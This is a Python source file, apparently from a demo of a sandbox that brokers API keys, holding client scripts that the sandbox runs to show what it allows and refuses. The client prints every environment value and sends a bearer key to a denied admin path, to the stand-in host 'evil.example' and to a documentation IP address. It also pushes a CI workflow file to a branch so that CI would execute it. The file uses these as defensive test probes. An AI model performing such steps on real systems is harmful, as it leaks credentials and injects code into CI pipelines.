"""What the demo's client is: a program that asks for what it may and for what it may not.

Run in a sandbox by `demo.py`, which has it as text, and read back by `demoproof.py`. It prints what
it tried and what came of it, a tab between, and knows neither the key nor what is expected of it.
"""

from __future__ import annotations

from keyhole.app import demorepository
from keyhole.app.demoservice import ASK, ECHO, NAME

VARIABLE = "HELLO_API_KEY"
DENIED_PATH = "/admin/keys"
DENIED_HOST = "evil.example"
DENIED_ADDRESS = "192.0.2.1"
"""One of those that documents use (RFC 5737): nobody has it."""
DECODED = "    the same, read from base64"
"""The client's word for the echo's second field."""
CLONE = f"git clone https://{demorepository.HOST}/{demorepository.NAME}"
PUSH = "git push origin HEAD:"
"""What the client types, before the branch."""
GRANTED, REFUSED, POISONED = "agent/demo", "main", "agent/demo2"
"""Branches that it pushes: the last with a file that CI would execute."""
WORKFLOW = ".github/workflows/x.yml"
COMMIT = "    commit for "
"""The client's word for what a branch was to have."""

CLIENT = f"""
import base64, json, os, socket, urllib.error, urllib.request

def show(what, said):
    print(what, said, sep="\\t", flush=True)

def get(url):
    key = os.environ["{VARIABLE}"]
    request = urllib.request.Request(url, headers={{"Authorization": f"Bearer {{key}}"}})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)

def attempt(url, *fields):
    try:
        status, answer = get(url)
        show(f"GET {{url}}", " ".join([str(status), *(str(answer[name]) for name in fields)]))
        return answer
    except OSError as error:
        show(f"GET {{url}}", f"refused: {{getattr(error, 'reason', error)}}")

show("network interfaces", " ".join(name for _, name in socket.if_nameindex()))
environment = {{}}
for name, value in os.environ.items():
    environment.setdefault(value, []).append(name)
for value, names in environment.items():
    show(f"env {{names[0]}}" + (f" and {{len(names) - 1}} more" if names[1:] else ""), value)
attempt("https://{NAME}{ASK}", "said")
echoed = attempt("https://{NAME}{ECHO}", "authorization")
show("{DECODED}", base64.b64decode(echoed["base64"]).decode("latin-1"))
attempt("https://{NAME}{DENIED_PATH}", "why")
attempt("https://{DENIED_HOST}/")
attempt("https://{DENIED_ADDRESS}/")
"""
"""An ordinary client: it takes the key from its environment and sends it wherever it asks."""

GIT_CLIENT = f"""
import subprocess

def git(*words):
    done = subprocess.run(("git", *words), capture_output=True, text=True)
    return done.returncode, done.stdout, done.stderr.splitlines()

def attempt_git(*words):
    code, _, lines = git(*words)
    telling = [line for line in lines if " -> " in line] or lines or [""]
    show(" ".join(("git", *words)), f"exit {{code}}: " + " ".join(telling[0].split()))

def commit(name, branch):
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    with open(name, "w") as file:
        file.write("on: push\\n")
    git("add", name)
    git("commit", "-m", name)
    show(f"{COMMIT}{{branch}}", git("rev-parse", "HEAD")[1].strip())

os.chdir(os.environ["HOME"])
attempt_git(*"{CLONE}".split()[1:])
os.chdir("widgets")
commit("notes", "{GRANTED}")
attempt_git("push", "origin", "HEAD:{GRANTED}")
attempt_git("push", "origin", "HEAD:{REFUSED}")
commit("{WORKFLOW}", "{POISONED}")
attempt_git("push", "origin", "HEAD:{POISONED}")
"""
"""Git as everybody has it, in a directory that is the sandbox's own."""
